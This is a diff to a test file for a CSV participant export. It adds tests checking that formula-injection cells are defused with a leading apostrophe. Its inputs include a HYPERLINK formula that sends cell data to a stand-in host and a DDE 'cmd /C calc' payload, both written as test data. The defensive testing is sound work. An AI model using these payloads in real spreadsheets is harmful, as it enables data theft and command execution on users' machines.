@@ -54,7 +54,7 @@ describe('participants CSV', () => {
   it('writes de-CH dates in Zurich time and German labels', () => {
     // 09:30 UTC on 20 November is 10:30 in Zurich.
     expect(lines[1]).toBe(
-      '"Anna Muster";"anna@example.ch";"+41 79 111 22 33";"Breathwork & Brunch";"15.03.2099";"Ausstehend";"Vor Ort";"20.11.2026 10:30";""',
+      '"Anna Muster";"anna@example.ch";"\'+41 79 111 22 33";"Breathwork & Brunch";"15.03.2099";"Ausstehend";"Vor Ort";"20.11.2026 10:30";""',
     );
   });
 
@@ -63,9 +63,38 @@ describe('participants CSV', () => {
     expect(lines[2]?.endsWith('"Vegan; ""bitte"""')).toBe(true);
   });
 
-  it('defuses cells a spreadsheet would run as formulas but keeps phone numbers', () => {
-    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
-    expect(csvCell('@SUM(1)')).toBe('"\'@SUM(1)"');
-    expect(csvCell('+41 79 000 00 00')).toBe('"+41 79 000 00 00"');
+  // OWASP: every cell starting with =, +, -, @, tab or carriage return gets a leading
+  // apostrophe, whatever follows; everything else is left alone.
+  it.each([
+    [
+      '-1+HYPERLINK("http://evil.example/?x="&A1;"Klick")',
+      '"\'-1+HYPERLINK(""http://evil.example/?x=""&A1;""Klick"")"',
+    ],
+    ["+2+3+cmd|' /C calc'!A0", "\"'+2+3+cmd|' /C calc'!A0\""],
+    ['@SUM(1)', '"\'@SUM(1)"'],
+    ['=1+1', '"\'=1+1"'],
+    ['=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
+    ['\t=1+1', '"\'\t=1+1"'],
+    ['\r=1+1', '"\'\r=1+1"'],
+    ['- 5', '"\'- 5"'],
+    ['-', '"\'-"'],
+    // A legitimate phone number stays text with every digit (Excel shows '+41 79 123 45 67
+    // instead of running it as a formula and showing #NAME?).
+    ['+41 79 123 45 67', '"\'+41 79 123 45 67"'],
+    ['079 123 45 67', '"079 123 45 67"'],
+    ['Anna = Ben', '"Anna = Ben"'],
+    ['', '""'],
+  ])('writes %j as %s', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  it('defuses a payload in any column of an exported row', () => {
+    const payload = toAdminParticipant(
+      participantRow({ name: '=1+1', phone: '+41 79 111 22 33', notes: '@SUM(1)' }),
+    );
+    const [, row] = participantsToCsv([payload]).slice(1).split('\r\n');
+    expect(row?.startsWith('"\'=1+1";')).toBe(true);
+    expect(row).toContain(';"\'+41 79 111 22 33";');
+    expect(row?.endsWith(';"\'@SUM(1)"')).toBe(true);
   });
 });
